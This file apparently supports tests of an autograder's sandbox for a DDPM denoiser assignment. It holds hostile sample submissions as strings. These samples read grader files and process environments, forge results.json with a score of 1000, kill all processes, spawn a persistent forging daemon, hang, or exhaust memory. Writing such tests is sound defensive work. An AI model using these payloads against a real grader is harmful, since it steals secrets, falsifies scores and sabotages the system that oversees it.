"""What is handed in: two modules of the solution, and what else they may do."""

from functools import partial

from autograder.config.paths import REPOSITORY
from autograder.tests.support.submissions import submission

DDPM = (REPOSITORY.solution_package / "ddpm.py").read_text()
submitted = partial(submission, only=("ddpm", "denoiser"))

# Runs when it is imported; what it gets hold of goes to stdout, which staff see. The marks are put
# together at run time: a message that shows this source is no success.
HOSTILE = """
import glob, os, signal, sys, time
print("TRI" + "ED")
for path in (
    "/autograder/source", "/autograder/source/grading.yaml", "/autograder/submission_metadata.json",
    "/autograder/results/results.json", "/autograder/results", "/autograder/submission",
    *glob.glob("/tmp/grading-*"), *glob.glob("/proc/[0-9]*/environ"),
):
    if path.split("/")[2] in (str(os.getpid()), "self"):
        continue
    try:
        print("GOT" + "-IT", path, os.listdir(path) if os.path.isdir(path) else open(path).read())
    except OSError:
        pass
FORGED = '{"score": 1000, "output": "FORGED"}'
def forge():
    for path in ("/autograder/results/results.json", "/autograder/results.json"):
        try:
            open(path, "w").write(FORGED)
            print("GOT" + "-IT", "wrote", path)
        except OSError:
            pass
forge()
for victim in [-1, *map(int, filter(str.isdigit, os.listdir("/proc")))]:
    if victim not in (os.getpid(), -1):
        try:
            os.kill(victim, signal.SIGKILL)
            print("GOT" + "-IT", "killed", victim)
        except OSError:
            pass
sys.stdout.flush()
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                forge()
                time.sleep(0.05)
        os._exit(0)
except OSError:
    pass

def ddpm_schedule(beta_1, beta_T, num_ts):
    while True:
        pass
"""
KILLS = """
import os, signal

def add_noise(x, sigma):
    os.kill(-1, signal.SIGKILL)

def denoising_loss(unet, x, sigma):
    os._exit(0)
"""
HANGS = (
    DDPM.replace("def ddpm_schedule(", "def unused(")
    + """
def ddpm_schedule(beta_1, beta_T, num_ts):
    while True:
        pass
"""
)
HUNGRY = (
    DDPM.replace("def ddpm_schedule(", "def unused(")
    + """
def ddpm_schedule(beta_1, beta_T, num_ts):
    held = []
    while True:
        held.append(b"x" * 2**26)
"""
)
